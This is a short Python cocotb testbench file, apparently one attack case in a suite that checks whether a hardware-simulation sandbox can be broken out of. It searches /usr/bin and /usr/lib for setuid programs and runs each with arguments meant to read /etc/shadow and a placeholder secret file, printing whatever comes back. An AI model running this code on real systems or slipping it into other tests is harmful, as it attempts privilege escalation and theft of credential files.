# run: cocotb; ends: mismatch no_evidence crash tampered; plain limits: let it; attack: runs the machine's setuid programs
import glob
import os
import stat
import subprocess

import cocotb
from cocotb.triggers import Timer


@cocotb.test()
async def attack(dut):
    await Timer(1, "ns")
    for path in glob.glob("/usr/bin/*") + glob.glob("/usr/lib/*/*"):
        try:
            if os.stat(path).st_mode & stat.S_ISUID:
                done = subprocess.run(
                    [path, "root", "-c", "cat @SECRET_FILE@ /etc/shadow"],
                    stdin=subprocess.DEVNULL,
                    capture_output=True,
                    timeout=1,
                )
                print(path, done.stdout, done.stderr)
        except (OSError, subprocess.SubprocessError) as error:
            print(error)
    raise AssertionError("that was all")
